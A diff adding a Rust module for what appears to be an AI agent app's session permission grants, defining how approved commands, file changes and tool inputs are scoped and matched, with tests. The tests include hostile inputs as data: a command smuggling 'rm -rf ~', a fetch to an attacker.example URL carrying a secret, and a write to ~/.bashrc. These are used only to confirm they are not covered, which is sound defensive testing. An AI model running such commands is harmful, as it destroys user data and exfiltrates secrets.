@@ -1,0 +1,237 @@
+//! What a session grant covers (`GrantScope`) and how one is listed (`GrantView`): exactly
+//! the request its card showed. The rules for using grants are in `grants.rs`.
+
+use std::path::Path;
+
+use forkhost_store::GrantRow;
+use serde::{Deserialize, Serialize};
+
+use crate::view::SubjectView;
+
+/// Exactly what a grant covers.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, ts_rs::TS)]
+#[serde(tag = "kind", rename_all = "snake_case")]
+#[ts(export)]
+pub enum GrantScope {
+    /// This command, run in this folder.
+    Command {
+        command: String,
+        cwd: Option<String>,
+    },
+    /// Changes to these files; a later change matches when every file it touches is here.
+    FileChange { paths: Vec<String> },
+    /// This tool with exactly this input.
+    Tool {
+        name: String,
+        #[ts(type = "unknown")]
+        input: serde_json::Value,
+    },
+}
+
+impl GrantScope {
+    /// The scope of approving `subject` for the session; questions grant nothing, nor does a
+    /// file change that names no file.
+    pub fn of(subject: &SubjectView) -> Option<GrantScope> {
+        match subject {
+            SubjectView::Command { command, cwd } => Some(GrantScope::Command {
+                command: command.clone(),
+                cwd: cwd.as_deref().map(path_text),
+            }),
+            SubjectView::FileChange { paths, .. } if !paths.is_empty() => {
+                let mut paths = paths.clone();
+                paths.sort();
+                paths.dedup();
+                Some(GrantScope::FileChange { paths })
+            }
+            SubjectView::FileChange { .. } | SubjectView::Question { .. } => None,
+            SubjectView::Tool { name, input } => Some(GrantScope::Tool {
+                name: name.clone(),
+                input: input.clone(),
+            }),
+        }
+    }
+
+    /// Whether a request for `subject` is one the user already allowed under this scope.
+    pub fn covers(&self, subject: &SubjectView) -> bool {
+        match (self, subject) {
+            (
+                GrantScope::Command { command, cwd },
+                SubjectView::Command {
+                    command: asked,
+                    cwd: asked_cwd,
+                },
+            ) => {
+                command == asked && cwd.as_deref() == asked_cwd.as_deref().map(path_text).as_deref()
+            }
+            (GrantScope::FileChange { paths }, SubjectView::FileChange { paths: asked, .. }) => {
+                !asked.is_empty() && asked.iter().all(|p| paths.contains(p))
+            }
+            (
+                GrantScope::Tool { name, input },
+                SubjectView::Tool {
+                    name: asked,
+                    input: asked_input,
+                },
+            ) => name == asked && input == asked_input,
+            _ => false,
+        }
+    }
+
+    /// The scope in a few words, for the card, the header's list and the CLI.
+    pub fn words(&self) -> String {
+        match self {
+            GrantScope::Command { command, cwd } => match cwd {
+                Some(cwd) => format!("run `{command}` in {cwd}"),
+                None => format!("run `{command}`"),
+            },
+            GrantScope::FileChange { paths } => format!("change {}", paths.join(", ")),
+            GrantScope::Tool { name, input } => {
+                let input = input.to_string();
+                match input.chars().count() > 160 {
+                    true => format!(
+                        "use {name} with {}…",
+                        input.chars().take(160).collect::<String>()
+                    ),
+                    false => format!("use {name} with {input}"),
+                }
+            }
+        }
+    }
+}
+
+fn path_text(path: &Path) -> String {
+    path.display().to_string()
+}
+
+/// A grant as the app and the CLI list it.
+#[derive(Debug, Clone, PartialEq, Serialize, ts_rs::TS)]
+#[ts(export)]
+pub struct GrantView {
+    /// Revoke it by this id.
+    pub id: String,
+    pub scope: GrantScope,
+    /// What it allows, in words.
+    pub words: String,
+    /// When it was granted, in ms since the epoch.
+    #[ts(type = "number")]
+    pub granted_at: i64,
+}
+
+impl GrantView {
+    pub(crate) fn from_row(row: GrantRow) -> Option<GrantView> {
+        // A scope this version cannot read grants nothing (and is still listed nowhere).
+        let scope: GrantScope = serde_json::from_str(&row.scope).ok()?;
+        Some(GrantView {
+            id: row.id,
+            words: scope.words(),
+            scope,
+            granted_at: row.granted_at,
+        })
+    }
+}
+
+pub(crate) fn now_ms() -> i64 {
+    std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .map_or(0, |d| d.as_millis() as i64)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    fn command(command: &str, cwd: &str) -> SubjectView {
+        SubjectView::Command {
+            command: command.into(),
+            cwd: Some(cwd.into()),
+        }
+    }
+
+    fn files(paths: &[&str]) -> SubjectView {
+        SubjectView::FileChange {
+            paths: paths.iter().map(|p| p.to_string()).collect(),
+            diff: None,
+        }
+    }
+
+    #[test]
+    fn a_file_grant_covers_its_own_files_only() {
+        // H1: one "Always" on an in-project write never covers ~/.bashrc.
+        let grant = GrantScope::of(&files(&["/w/a.txt"])).unwrap();
+        assert!(grant.covers(&files(&["/w/a.txt"])));
+        assert!(!grant.covers(&files(&["/home/u/.bashrc"])));
+        assert!(!grant.covers(&files(&["/w/a.txt", "/home/u/.bashrc"])));
+        assert!(
+            !grant.covers(&files(&[])),
+            "a change naming no file is asked"
+        );
+        let two = GrantScope::of(&files(&["/w/b", "/w/a", "/w/a"])).unwrap();
+        assert_eq!(
+            two,
+            GrantScope::FileChange {
+                paths: vec!["/w/a".into(), "/w/b".into()]
+            }
+        );
+        assert!(two.covers(&files(&["/w/b"])));
+        assert!(GrantScope::of(&files(&[])).is_none());
+    }
+
+    #[test]
+    fn a_command_grant_needs_the_same_command_in_the_same_folder() {
+        let grant = GrantScope::of(&command("touch x", "/a")).unwrap();
+        assert!(grant.covers(&command("touch x", "/a")));
+        assert!(!grant.covers(&command("touch x", "/b")));
+        assert!(!grant.covers(&command("touch x; rm -rf ~", "/a")));
+        assert!(!grant.covers(&SubjectView::Command {
+            command: "touch x".into(),
+            cwd: None
+        }));
+        assert!(
+            !grant.covers(&files(&["/a/x"])),
+            "another kind never matches"
+        );
+    }
+
+    #[test]
+    fn a_tool_grant_needs_exactly_the_same_input() {
+        let fetch = |url: &str| SubjectView::Tool {
+            name: "WebFetch".into(),
+            input: json!({ "url": url }),
+        };
+        let grant = GrantScope::of(&fetch("https://docs.rs")).unwrap();
+        assert!(grant.covers(&fetch("https://docs.rs")));
+        assert!(!grant.covers(&fetch("https://attacker.example/?d=secret")));
+        assert!(!grant.covers(&SubjectView::Tool {
+            name: "Read".into(),
+            input: json!({ "url": "https://docs.rs" })
+        }));
+        assert!(GrantScope::of(&SubjectView::Question { questions: vec![] }).is_none());
+    }
+
+    #[test]
+    fn scopes_round_trip_and_say_what_they_allow() {
+        let scope = GrantScope::of(&command("touch x", "/w")).unwrap();
+        let text = serde_json::to_string(&scope).unwrap();
+        assert_eq!(serde_json::from_str::<GrantScope>(&text).unwrap(), scope);
+        assert_eq!(scope.words(), "run `touch x` in /w");
+        let view = GrantView::from_row(GrantRow {
+            id: "g".into(),
+            thread_id: "t".into(),
+            scope: text,
+            granted_at: 1,
+        })
+        .unwrap();
+        assert_eq!(view.words, "run `touch x` in /w");
+        assert!(
+            GrantView::from_row(GrantRow {
+                id: "old".into(),
+                thread_id: "t".into(),
+                scope: "file_change".into(),
+                granted_at: 1,
+            })
+            .is_none(),
+            "an unreadable scope grants nothing"
+        );
+    }
+}
